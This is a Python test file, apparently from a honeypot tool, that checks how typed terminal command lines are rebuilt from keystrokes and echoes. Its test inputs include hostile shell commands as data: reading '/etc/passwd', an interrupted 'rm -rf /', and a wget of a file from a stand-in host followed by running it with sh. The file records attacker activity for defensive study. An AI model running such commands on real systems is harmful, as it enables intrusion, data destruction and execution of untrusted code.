"""Tests of finding command lines in what crosses a terminal."""

from hypothesis import given
from hypothesis import strategies as st

from decnet_actors.machine.inside.lines import MAX_WAITING, Lines
from decnet_actors.machine.inside.screen import MAX_ROWS, Screen

PROMPT = b"root@web-01:~# "


def told(*exchange: tuple[bytes, bytes], columns: int = 80) -> list[str]:
    """Return the lines found when keys and what is printed for them take turns, behind a prompt."""
    lines = Lines(columns)
    found = lines.printed(PROMPT)
    for keys, printed in exchange:
        lines.typed(keys)
        found += lines.printed(printed)
    return found


def test_a_line_is_told_when_its_echo_ends():
    lines = Lines(80)
    lines.printed(PROMPT)
    lines.typed(b"ls\r")

    assert [] == lines.printed(b"ls")
    assert ["ls"] == lines.printed(b"\r\nfile\r\n")


def test_what_was_erased_is_not_in_it():
    assert ["ls -l"] == told((b"lz\x7fs -a\x17-l\r", b"lz\b \bs -a\b\b  \b\b-l\r\n"))
    assert ["id"] == told((b"ls\x15id\r", b"ls\b\b  \b\bid\r\n"))


def test_what_was_typed_without_an_echo_is_no_command():
    exchange = [(b"su\r", b"su\r\nPassword: "), (b"hunter2\r", b"\r\n# "), (b"id\r", b"id\r\n")]

    assert ["su", "id"] == told(*exchange)


def test_what_a_line_editor_fetched_is_read_from_the_screen():
    assert ["cat /etc/passwd"] == told((b"\x1b[A", b"cat /etc/passwd"), (b"\r", b"\r\n"))
    assert ["cat /etc/passwd"] == told((b"cat /etc/pas\t", b"cat /etc/passwd "), (b"\r", b"\r\n"))


def test_a_prompt_that_was_drawn_again_is_no_part_of_it():
    search = b"\r(reverse-i-search)`i': id\b\b"
    again = b"\r\x1b[15P" + PROMPT + b"id\x1b[K\r\n"

    assert ["id"] == told((b"\x12i", search), (b"\r", again))


def test_a_line_that_was_wrapped_is_one():
    keys = b"echo 0123456789 0123456789"

    assert [keys.decode()] == told((b"\x1b[A", keys[:5] + keys[5:]), (b"\r", b"\r\n"), columns=20)


def test_an_interrupted_line_is_none():
    assert ["id"] == told((b"rm -rf /\x03", b"rm -rf /^C\r\n" + PROMPT), (b"id\r", b"id\r\n"))


def test_keys_for_a_program_that_has_the_whole_screen_are_none():
    assert [] == told((b"vi\x03", b"\x1b[?1049h"), (b"dd\r:q\r", b"\r\n\r\n"))


def test_lines_whose_peer_left_before_the_echo_are_told_at_the_end():
    lines = Lines(80)
    lines.typed(b"wget http://192.0.2.1/x\r\x1b[A\rsh x\r")

    assert ["wget http://192.0.2.1/x", "sh x"] == lines.rest()
    assert [] == lines.rest()


@given(st.lists(st.tuples(st.binary(max_size=80), st.binary(max_size=400)), max_size=20), st.integers(1, 200))
def test_whatever_crosses_it_stays_small_and_its_split_does_not_matter(exchange, columns):
    whole, bytewise = Lines(columns), Lines(columns)
    for keys, printed in exchange:
        whole.typed(keys)
        for key in keys:
            bytewise.typed(bytes((key,)))
        found = whole.printed(printed)

        assert found == [line for byte in printed for line in bytewise.printed(bytes((byte,)))]
    assert len(whole.rest()) <= MAX_WAITING
    assert len(whole.screen.line) <= MAX_ROWS * columns


@given(st.text(max_size=300), st.integers(1, 100))
def test_a_screen_that_is_only_written_to_shows_the_text(text, columns):
    plain = "".join(character for character in text if character.isprintable())
    screen = Screen(columns)
    for character in plain:
        screen.put(character)

    if len(plain) < (MAX_ROWS - 1) * columns:
        assert plain.rstrip() == screen.line
        assert len(plain) == screen.position
